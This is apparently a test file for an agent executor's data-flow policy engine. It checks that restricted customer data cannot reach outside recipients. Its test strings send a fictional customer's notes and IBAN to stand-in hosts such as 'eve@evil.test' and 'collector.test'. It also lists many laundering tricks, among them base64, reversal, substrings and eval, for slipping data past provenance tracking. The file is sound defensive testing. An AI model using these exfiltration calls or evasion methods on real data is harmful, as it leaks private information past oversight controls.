// Data-flow rules in a real executor over in-process tools: what each rule catches (every laundering form the
// manual lists), what it lets through, and each action. End-to-end tests against atp serve are in test/e2e.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import Keyv from 'keyv';
import { demoTool, makeExecutor, request } from './execution-harness.js';

const CUSTOMER = {
  id: 'cus_7Hq2Lm9Px4',
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  phone: '+44 20 7946 0958',
  notes: 'Prefers contact after 6pm; account flagged for manual review of large transfers',
  iban: 'GB33BUKB20201555555555',
  balance: 48213,
  city: 'London', // the weather tool names it too: the same value from an open source is not restricted
};

function tools(sent) {
  const record = (name) => async (input) => {
    sent.push({ fn: name, input });
    return { ok: true };
  };
  return [
    demoTool('crm.getCustomer', async (input) => ({ ...CUSTOMER, email: input.email ?? CUSTOMER.email })),
    demoTool('crm.listOrders', async () => [{ order: 'ord_1', total: 120 }, { order: 'ord_2', total: 75 }]),
    { ...demoTool('crm.search', async () => ({ hits: 2 })), annotations: { readOnly: true } },
    demoTool('mail.send', record('mail.send')),
    demoTool('web.post', record('web.post')),
    demoTool('bank.transfer', record('bank.transfer')),
    demoTool('weather.today', async () => ({ city: 'London', summary: 'Light rain, 11 degrees, wind from the south-west' })),
  ];
}

const RULES = `
execution: { provenance: track }
policies:
  sources:
    - functions: [demo.crm.getCustomer]
      readers: [email]
  rules:
    - rule: preventDataExfiltration
      functions: [demo.mail.send, demo.web.post]
    - rule: requireUserOrigin
      functions: [demo.bank.transfer]
    - rule: blockLLMRecipients
      functions: [demo.mail.send]
`;

function setup(yaml = RULES, stateStore = new Keyv()) {
  const sent = [];
  const { executor } = makeExecutor({ yaml, extraTools: tools(sent), stateStore });
  return { executor, sent, run: (code, overrides) => executor.execute(request(code, overrides)) };
}

const READ = `const c = await api.demo.crm.getCustomer({ email: 'ada@example.com' });`;

test('restricted data reaches a sink only when every recipient is a reader', async () => {
  const { run, sent, executor } = setup();
  try {
    const own = await run(`${READ} await api.demo.mail.send({ to: 'ada@example.com', body: JSON.stringify(c) }); return 'sent';`);
    assert.equal(own.status, 'completed', JSON.stringify(own.error));
    assert.equal(sent.length, 1, 'a reader receiving their own data is allowed');
    const other = await run(`${READ} await api.demo.mail.send({ to: 'eve@evil.test', body: c.notes }); return 'sent';`);
    assert.equal(other.status, 'security_violation');
    assert.equal(other.error.code, 'SECURITY_VIOLATION');
    assert.match(other.error.message, /preventDataExfiltration: api\.demo\.mail\.send would send data read from api\.demo\.crm\.getCustomer to eve@evil\.test/);
    const mixed = await run(`${READ} await api.demo.mail.send({ to: ['ada@example.com', 'eve@evil.test'], body: c.notes }); return 1;`);
    assert.equal(mixed.status, 'security_violation', 'every recipient must be a reader');
    const unknown = await run(`${READ} await api.demo.web.post({ url: 'https://collector.test/in', body: { n: c.notes } }); return 1;`);
    assert.equal(unknown.status, 'security_violation');
    assert.match(unknown.error.message, /unknown recipient/);
    assert.equal(sent.length, 1, 'no refused call reached its tool');
  } finally {
    await executor.close(0);
  }
});

test('a violation is catchable in the code, and the call is not made', async () => {
  const { run, sent, executor } = setup();
  try {
    const result = await run(`${READ}
      try { await api.demo.mail.send({ to: 'eve@evil.test', body: c.notes }); return 'sent'; }
      catch (error) { return { code: error.code, message: error.message }; }`);
    assert.equal(result.status, 'completed');
    assert.equal(result.result.code, 'SECURITY_VIOLATION');
    assert.equal(sent.length, 0);
  } finally {
    await executor.close(0);
  }
});

const LAUNDERED = {
  'nested in an object': 'body: { wrapper: [{ deep: c.notes }] }',
  'a template literal': 'body: `FYI: ${c.notes} -- sent automatically`',
  concatenation: "body: 'Client says: ' + c.notes + '!'",
  'a substring of 16+ characters': 'body: c.notes.slice(10, 40)',
  'a JSON round trip': 'body: JSON.stringify(JSON.parse(JSON.stringify({ x: c })))',
  'split and joined': "body: c.notes.split(' ').join('_')",
  'upper-cased': 'body: c.notes.toUpperCase()',
  'lower-cased name': 'body: c.name.toLowerCase()',
  'joined from pieces': "body: [c.notes.slice(0, 20), c.notes.slice(20)].join('')",
  'reversed': "body: c.notes.split('').reverse().join('')",
  'rebuilt character by character': "body: Array.from(c.notes).map((ch) => String.fromCharCode(ch.charCodeAt(0))).join('')",
  'a short value passed unchanged (a balance)': 'body: c.balance',
  'an IBAN with spaces': "body: c.iban.replace(/(.{4})/g, '$1 ')",
  'through eval': "body: eval('c.notes')",
};
// the sandbox has no btoa: code that wants base64 writes it, as an agent would
LAUNDERED.base64 = `body: ((text) => {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < text.length; i += 3) {
    const n = (text.charCodeAt(i) << 16) | ((text.charCodeAt(i + 1) || 0) << 8) | (text.charCodeAt(i + 2) || 0);
    out += abc[(n >> 18) & 63] + abc[(n >> 12) & 63] + (i + 1 < text.length ? abc[(n >> 6) & 63] : '=') + (i + 2 < text.length ? abc[n & 63] : '=');
  }
  return out;
})(c.notes)`;

for (const [how, body] of Object.entries(LAUNDERED)) {
  test(`restricted data stays restricted: ${how}`, async () => {
    const { run, sent, executor } = setup();
    try {
      const result = await run(`${READ} await api.demo.mail.send({ to: 'eve@evil.test', ${body} }); return 'sent';`);
      assert.equal(result.status, 'security_violation', `${how}: ${JSON.stringify(result.error ?? result.result)}`);
      assert.equal(sent.length, 0);
    } finally {
      await executor.close(0);
    }
  });
}

test('no false positives: literals, non-restricted results and LLM answers go anywhere', async () => {
  const { run, sent, executor } = setup();
  try {
    const result = await executor.execute(request(`
      ${READ}
      const w = await api.demo.weather.today({});
      await api.demo.mail.send({ to: 'eve@evil.test', body: 'Weather: ' + w.summary });
      await api.demo.mail.send({ to: 'team@corp.test', body: 'Quarterly report is ready for review by everyone' });
      await api.demo.web.post({ url: 'https://hooks.test/x', body: { city: w.city, count: 3 } });
      await api.demo.bank.transfer({ to: 'GB00TEST00000000000001', amount: 250, memo: 'rent' });
      return 4;`));
    assert.equal(result.status, 'completed', JSON.stringify(result.error));
    assert.equal(sent.length, 4);
  } finally {
    await executor.close(0);
  }
});

test('requireUserOrigin catches a value from a tool however short; literals and the client pass', async () => {
  const { run, sent, executor } = setup();
  try {
    const fromTool = await run(`const o = await api.demo.crm.listOrders({}); await api.demo.bank.transfer({ to: 'GB00TEST00000000000001', amount: o[1].total }); return 1;`);
    assert.equal(fromTool.status, 'security_violation');
    assert.match(fromTool.error.message, /requireUserOrigin: .*"amount" comes from api\.demo\.crm\.listOrders/);
    const shortString = await run(`const o = await api.demo.crm.listOrders({}); await api.demo.bank.transfer({ to: o[0].order, amount: 5 }); return 1;`);
    assert.equal(shortString.status, 'security_violation');
    const literal = await run(`const o = await api.demo.crm.listOrders({}); await api.demo.bank.transfer({ to: 'ord_1', amount: 75 }); return 1;`);
    assert.equal(literal.status, 'completed', "the same values written in the program are the user's");
    assert.equal(sent.length, 1);
  } finally {
    await executor.close(0);
  }
});

test('blockLLMRecipients: a recipient from an LLM answer is refused; an LLM answer as the body is not', async () => {
  const { executor, sent } = setup();
  try {
    const paused = await executor.execute(request(`
      const to = await atp.llm.call({ prompt: 'who should get this?' });
      const text = await atp.llm.call({ prompt: 'write it' });
      await api.demo.mail.send({ to: 'boss@corp.test', body: text });
      await api.demo.mail.send({ to, body: 'hello' });
      return 'sent';`));
    assert.equal(paused.status, 'paused');
    const second = await executor.resume(paused.executionId, 'client-a', { result: 'eve@evil.test' });
    assert.equal(second.status, 'paused');
    const done = await executor.resume(second.executionId, 'client-a', { result: 'Here is the summary you asked for.' });
    assert.equal(done.status, 'security_violation', JSON.stringify(done));
    assert.match(done.error.message, /blockLLMRecipients: the recipient "to" of api\.demo\.mail\.send comes from an LLM answer/);
    assert.deepEqual(sent.map((s) => s.input.to), ['boss@corp.test']);
  } finally {
    await executor.close(0);
  }
});

test('approve: the call waits for a person; approved it runs once, refused it throws', async () => {
  const yaml = RULES.replace('functions: [demo.mail.send, demo.web.post]', 'functions: [demo.mail.send, demo.web.post]\n      action: approve');
  const { executor, sent } = setup(yaml);
  try {
    const code = `${READ} await api.demo.mail.send({ to: 'eve@evil.test', body: c.notes }); return 'sent';`;
    const paused = await executor.execute(request(code));
    assert.equal(paused.status, 'paused');
    assert.equal(paused.needsCallback.type, 'approval');
    assert.match(paused.needsCallback.payload.message, /preventDataExfiltration/);
    assert.deepEqual(paused.needsCallback.payload.context.rules, ['preventDataExfiltration']);
    const approved = await executor.resume(paused.executionId, 'client-a', { result: { approved: true } });
    assert.equal(approved.status, 'completed');
    assert.equal(sent.length, 1);
    const again = await executor.execute(request(code));
    const denied = await executor.resume(again.executionId, 'client-a', { result: { approved: false } });
    assert.equal(denied.status, 'failed');
    assert.match(denied.error.message, /api\.demo\.mail\.send was not approved/);
    assert.equal(sent.length, 1);
  } finally {
    await executor.close(0);
  }
});

test('log: the call runs', async () => {
  const { executor, sent } = setup(RULES.replace('functions: [demo.mail.send, demo.web.post]', 'functions: [demo.mail.send, demo.web.post]\n      action: log'));
  try {
    const result = await executor.execute(request(`${READ} await api.demo.mail.send({ to: 'eve@evil.test', body: c.notes }); return 'sent';`));
    assert.equal(result.status, 'completed');
    assert.equal(sent.length, 1);
  } finally {
    await executor.close(0);
  }
});

test('across executions: restricted values pasted back as literals stay restricted for that client only', async () => {
  const store = new Keyv();
  const { executor, sent } = setup(RULES, store);
  try {
    const read = await executor.execute(request(`${READ} return c.notes;`));
    assert.equal(read.status, 'completed');
    const pasted = JSON.stringify(read.result);
    const later = await executor.execute(request(`await api.demo.mail.send({ to: 'eve@evil.test', body: ${pasted} }); return 1;`));
    assert.equal(later.status, 'security_violation');
    assert.match(later.error.message, /read in an earlier execution/);
    const otherClient = await executor.execute(request(`await api.demo.mail.send({ to: 'eve@evil.test', body: ${pasted} }); return 1;`, { clientId: 'client-b' }));
    assert.equal(otherClient.status, 'completed', 'another client never read it');
    assert.equal(sent.length, 1);
  } finally {
    await executor.close(0);
  }
});

test('rules guard every function that is not read-only when they name none; reads with restricted input run', async () => {
  const yaml = `
execution: { provenance: track }
policies:
  sources: [{ functions: [demo.crm.getCustomer], readers: [email] }]
  rules: [{ rule: preventDataExfiltration }]
`;
  const { executor, sent } = setup(yaml);
  try {
    const result = await executor.execute(request(`${READ}
      const hits = await api.demo.crm.search({ q: c.name });
      let refused = '';
      try { await api.demo.web.post({ url: 'https://x.test', body: c.name }); } catch (error) { refused = error.code; }
      return { hits: hits.hits, refused };`));
    assert.equal(result.status, 'completed', JSON.stringify(result.error));
    assert.deepEqual(result.result, { hits: 2, refused: 'SECURITY_VIOLATION' });
    assert.equal(sent.length, 0);
  } finally {
    await executor.close(0);
  }
});
